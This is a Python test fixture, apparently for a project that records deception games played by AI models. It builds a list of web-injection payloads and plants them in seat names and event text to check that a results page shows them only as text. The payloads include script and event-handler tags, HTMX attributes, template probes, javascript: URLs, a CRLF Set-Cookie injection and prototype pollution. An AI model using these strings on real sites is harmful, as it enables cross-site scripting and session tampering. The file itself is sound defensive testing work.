"""Strings that a page must show as words, and a run whose every word from a player, a model or a file is one.

Every element among them has the attribute `evil`, every script calls `fired`, and every address is at evil.invalid.
"""

from __future__ import annotations

import html
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import quote

from liescope.games.core import Event, EventKind, Outcome, Phase
from liescope.games.record import GameRecord, Seat, Source, Status
from liescope.generate.runs.journal import Journal

_TAGS = (
    "<script evil>fired()</script>",
    "<img evil src=x onerror=fired()>",
    "<input evil autofocus onfocus=fired()>",
    "<svg evil onload=fired()>",
    "<svg evil><a evil xlink:href=javascript:fired()><text>t</text></a></svg>",
    "<iframe evil srcdoc='<script>parent.fired()</script>'></iframe>",
    "<base evil href=//evil.invalid/>",
    "<meta evil http-equiv=refresh content='0;url=//evil.invalid/l'>",
    "<style evil>*{background:url(//evil.invalid/m)}</style>",
    "<form evil action=//evil.invalid/p><button evil>send</button></form>",
    "<input evil form=form name=form value=forged>",
    "<noscript><p title='</noscript><img evil src=x onerror=fired()>'>",
    "<plaintext evil>",
    "<img evil id=location name=cookie>",
)
_HTMX = (
    "<p evil hx-get=//evil.invalid/r hx-trigger=load>h</p>",
    "<p evil hx-on:load=fired()>h</p>",
    "<p evil hx-swap-oob=true id=ask>You have voted.</p>",
)
_OUT_OF = ('"', "'", '">', "-->", "</title>", "</textarea>", "</script>", "</style>")
_ATTRIBUTES = (
    '" evil onmouseover="fired()',
    '" evil autofocus onfocus="fired()" x="',
    '" evil style="background:url(//evil.invalid/v)" x="',
    '"\x0bevil\x0conclick="fired()',
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% include 'base.html' %}",
    "${fired()} #{fired()} <%= fired() %> @{fired()}",
    "%(name)s %s %n {0.__class__} {name!r:>9}",
)
_ADDRESSES = (
    "javascript:fired()",
    "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+",
    "//evil.invalid/",
    "https://evil.invalid/?a=1&b=<2>#c",
)
_SCRIPTS = (
    "';fired();//",
    "</script><script evil>fired()</script>",
    "<!--<script evil>fired()",
    '{"__proto__": {"evil": true}}',
    "\nevent: page\ndata: <img evil src=x onerror=fired()>\n\n",
    "x\r\nSet-Cookie: evil=1\r\n\r\n<img evil src=x onerror=fired()>",
)
_LETTERS = (
    "right \u202eot tfel\u202c and back",
    "zero\u200bwidth\u200djoined\u2060and\ufeffmarked",
    "a half \ud83d character, and \udc00 another",
    "NUL \x00 in <im\x00g evil src=x onerror=fired()>",
    "bell \x07 escape \x1b[31m delete \x7f back \x08\x08",
    "two\u2028lines\u2029of\u0085words",
    "tab\tfeed\x0cvertical\x0breturn\rline\nend",
    "Z\u0351\u036b\u0343\u036a\u0302A\u0321\u0489L\u0334\u0358G\u0335O" + "\u0336" * 30,
    "＜script evil＞fired()＜/script＞",
    "w" * 400,
)
_ENCODED = tuple(
    encoded
    for payload in ("<img evil src=x onerror=fired()>", '"><script evil>fired()</script>', "<b evil>&amp;</b>")
    for encoded in (
        html.escape(payload),
        html.escape(html.escape(payload)),
        "".join(f"&#x{ord(letter):x}" for letter in payload),
        quote(payload),
    )
)

HOSTILE = (
    *_TAGS,
    *_HTMX,
    *(f"{end}<img evil src=x onerror=fired()>" for end in _OUT_OF),
    *_ATTRIBUTES,
    *_TEMPLATES,
    *_ADDRESSES,
    *_SCRIPTS,
    *_LETTERS,
    *_ENCODED,
)


SEATS = 35
ID = "\"><img evil src=x onerror=fired()>{{7*7}}'"


def make(folder: Path) -> list[GameRecord]:
    """Such a run, and its records: each string is the name of a seat, and stands in whatever that seat says or is."""
    games = [_game(first // SEATS, HOSTILE[first : first + SEATS]) for first in range(0, len(HOSTILE), SEATS)]
    with Journal.create(folder, {"import": ID, "options": {ID: ID}}) as journal:
        for game in games:
            journal.add_record(game)
    return games


def shown_in(game: GameRecord) -> Iterator[str]:
    """What the page of a game shows to all-knowing eyes."""
    for seat in game.seats:
        yield from (seat.name, seat.role, seat.team, seat.model)
    for event in game.events:
        yield event.text
        yield str(event.data.get("private", {}).get("reasoning", ""))
        yield str(event.data.get("assessment", {}).get("reason", ""))
        yield from (text for _, text in event.data.get("lessons", ()))


def _game(number: int, strings: Sequence[str]) -> GameRecord:
    seats = tuple(
        Seat(one, f"role {one}", f"team {one}", place % 2 == 0, f"model {one}", Source.MODEL)
        for place, one in enumerate(strings)
    )
    events: list[Event] = []

    def log(kind: EventKind, phase: Phase, **facts: Any) -> int:
        events.append(Event(len(events), kind, 0 if phase is Phase.SETUP else 1, phase, **facts))
        return len(events) - 1

    log(EventKind.SETUP, Phase.SETUP, data={"names": list(strings), "composition": {f"role {strings[0]}": 2}})
    for seat in seats:
        mine: dict[str, Any] = {"actor": seat.name, "audience": (seat.name,)}
        log(EventKind.ROLE, Phase.SETUP, **mine, data={"role": seat.role})
        log(EventKind.LESSONS, Phase.SETUP, **mine, data={"lessons": [("to_do", f"lesson {seat.name}")]})
    log(EventKind.ACT, Phase.NIGHT, actor=strings[1], text=f"hides {strings[1]}", audience=(strings[1],))
    for place, one in enumerate(strings):
        peer = strings[place - 1]
        private = {"reasoning": f"thought {one}", "planted_type": f"kind {one}", f"key {one}": f"value {one}"}
        said = log(EventKind.STATEMENT, Phase.DISCUSSION, actor=one, text=f"said {one}", data={"private": private})
        about: dict[str, Any] = {"target": one, "about": said}
        own = {"deceptive": place % 3 == 0, "type": "omission", "confidence": 0.5, "reason": f"own reason {one}"}
        log(EventKind.SELF_REPORT, Phase.DISCUSSION, actor=one, audience=(one,), **about, data={"assessment": own})
        view = {"deceptive": place % 4 == 0, "confidence": 0.5, "suspicion": 0.6, "reason": f"peer reason {one}"}
        log(EventKind.RATING, Phase.DISCUSSION, actor=peer, audience=(peer,), **about, data={"assessment": view})
    for place, one in enumerate(strings):
        log(EventKind.VOTE, Phase.VOTING, actor=one, target=strings[place - 1], fallback=f"fallback {one}")
    log(EventKind.EXILE, Phase.VOTING, target=strings[0], data={"votes": 2, "needed": 1})
    log(EventKind.END, Phase.END, data={"winner": f"team {strings[0]}"})
    learner: dict[str, Any] = {"actor": strings[1], "audience": (strings[1],)}
    log(EventKind.LESSON, Phase.END, **learner, text=f"learned {strings[1]}", data={"kind": "to_do"})
    outcome = Outcome(f"team {strings[0]}", tuple(strings[::2]), f"reason {strings[2]}", 1)
    cell, meta = f"cell {strings[3]}", {"seating": strings[4]}
    return GameRecord(
        f"{number}{ID}", f"rules {strings[5]}", 7, cell, seats, tuple(events), Status.DONE, outcome, "", meta
    )
